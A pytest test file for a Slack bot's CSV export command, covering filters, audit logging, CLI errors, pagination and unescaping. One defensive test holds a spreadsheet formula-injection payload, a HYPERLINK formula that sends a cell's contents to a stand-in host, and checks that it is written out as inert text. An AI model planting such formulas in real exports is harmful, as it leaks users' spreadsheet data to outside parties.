"""`liaison-bridge export`: every item with its text, structure, state and dates, as CSV,
filtered by date and workspace, and audited."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from conftest import typed
from sqlalchemy import select
from test_audit_export import DAY1, DAY2, two_teams

from handlers.messages import SlackRenderer
from storage.enums import Action, GoalLevel, ItemKind, OfferType
from storage.migrate import upgrade
from storage.models import AuditEntry
from storage.policy.permissions import Actor
from storage.reports.items import COLUMNS
from storage.services import Services
from storage.uow import Database
from storage.views import Draft, GoalDraft


def _world(services: Services, ws: str, when: datetime) -> None:
    admin = two_teams(services, ws, when)
    goal = services.goals.create(
        admin, GoalDraft(typed("Grow ortho referrals"), GoalLevel.CORPORATE), when
    )
    lines = services.service_lines.listing(ws, when)
    line = next(line.id for line in lines if line.name == "Orthopedics")
    offer = Draft(
        ItemKind.OFFER,
        typed(f"Ortho target list for {ws}"),
        service_line_id=line,
        goal_id=goal.id,
        offer_type=OfferType.TARGET_LIST,
        link=typed("https://intranet.example.org/lists"),
    )
    offered = services.items.post(Actor(ws, "U_L1"), offer, when)
    services.items.accept(Actor(ws, "U_M1"), offered.item_id, when + timedelta(hours=1))
    question = Draft(ItemKind.QUESTION, typed("Who refers spine?"), needed_by=date(2026, 12, 1))
    asked = services.items.post(Actor(ws, "U_M1"), question, when)
    services.items.answer(
        Actor(ws, "U_L1"), asked.item_id, typed("Dr. Lee"), when + timedelta(hours=2)
    )


def _rows(services: Services, **filters: object) -> list[dict[str, str]]:
    out = io.StringIO()
    services.export.write_csv(out, DAY2 + timedelta(days=1), **filters)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_every_item_with_its_structure_state_and_dates(db: Database) -> None:
    services = Services.build(db, SlackRenderer())
    _world(services, "T1", DAY1)
    _world(services, "T2", DAY2)

    rows = _rows(services)
    assert len(rows) == 4 and tuple(rows[0]) == COLUMNS
    offer = next(r for r in rows if r["workspace"] == "T1" and r["kind"] == "offer")
    assert offer["text"] == "Ortho target list for T1"
    assert offer["state"] == "accepted" and offer["accepted_by"] == "U_M1"
    assert offer["accepted_at"] == (DAY1 + timedelta(hours=1)).isoformat()
    assert (offer["service_line"], offer["goal"]) == ("Orthopedics", "Grow ortho referrals")
    assert offer["offer_type"] == "target_list" and offer["of_value"] == "no"
    assert offer["link"] == "https://intranet.example.org/lists"
    assert (offer["from_team"], offer["to_team"], offer["author"]) == (
        "Physician Liaisons",
        "Marketing",
        "U_L1",
    )
    question = next(r for r in rows if r["workspace"] == "T1" and r["kind"] == "question")
    assert question["state"] == "answered" and question["needed_by"] == "2026-12-01"
    assert question["answered_at"] == (DAY1 + timedelta(hours=2)).isoformat()
    assert question["offer_type"] == "" and question["accepted_at"] == ""

    assert {r["workspace"] for r in _rows(services, workspaces=["T2"])} == {"T2"}
    assert {r["workspace"] for r in _rows(services, since=DAY2)} == {"T2"}
    with db.unit_of_work() as uow:
        exports = uow.session.scalars(
            select(AuditEntry).where(AuditEntry.action == Action.EXPORT)
        ).all()
    assert {(e.workspace_id, e.object_type) for e in exports} == {("T1", "items"), ("T2", "items")}
    assert sorted(e.detail["rows"] for e in exports if e.detail) == [2, 2, 2, 2]


def test_export_on_the_command_line(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'bridge.db'}"
    db = Database.from_url(url)
    upgrade(db.engine)
    services = Services.build(db, SlackRenderer())
    _world(services, "T1", DAY1)
    _world(services, "T2", DAY2)
    db.dispose()

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "bot.cli", "export", *args],
            cwd=tmp_path,
            env={"PATH": "/usr/bin:/bin", "DATABASE_URL": url},
            capture_output=True,
            text=True,
            timeout=60,
        )

    done = run("--since", "2026-11-05", "--format", "csv", "--workspace", "T2")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["workspace"] for r in rows] == ["T2", "T2"]
    assert "2 item(s) exported." in done.stderr
    bad = run("--since", "last tuesday")
    assert bad.returncode == 2 and "--since" in bad.stderr and "Traceback" not in bad.stderr
    assert run("--format", "xlsx").returncode == 2


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(db: Database) -> None:
    services = Services.build(db, SlackRenderer())
    two_teams(services, "T1", DAY1)
    for words in ('=HYPERLINK("https://x.test/?"&B2,"Open")', "-5 referrals", "+1 office"):
        services.items.post(Actor("T1", "U_M1"), Draft(ItemKind.UPDATE, typed(words)), DAY1)
    texts = [row["text"] for row in _rows(services)]
    assert texts == [
        '\'=HYPERLINK("https://x.test/?"&B2,"Open")',
        "'-5 referrals",
        "'+1 office",
    ]


def test_both_exports_read_every_page(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    import storage.reports.audit
    import storage.reports.items

    monkeypatch.setattr(storage.reports.items, "BATCH", 1)
    monkeypatch.setattr(storage.reports.audit, "BATCH", 2)
    services = Services.build(db, SlackRenderer())
    _world(services, "T1", DAY1)
    assert [r["kind"] for r in _rows(services)] == ["offer", "question"]
    with db.unit_of_work() as uow:
        logged = len(uow.session.scalars(select(AuditEntry)).all())
    out = io.StringIO()
    assert services.audit.write_csv(out, DAY2) == logged
    assert len(out.getvalue().splitlines()) == logged + 1


def test_text_is_exported_as_typed_not_in_slacks_escaped_form(db: Database) -> None:
    services = Services.build(db, SlackRenderer())
    two_teams(services, "T1", DAY1)
    stored = typed("Q&amp;A for ortho &lt;north&gt; with <@U_L1>")
    services.items.post(Actor("T1", "U_M1"), Draft(ItemKind.UPDATE, stored), DAY1)
    [row] = _rows(services)
    assert row["text"] == "Q&A for ortho <north> with <@U_L1>"
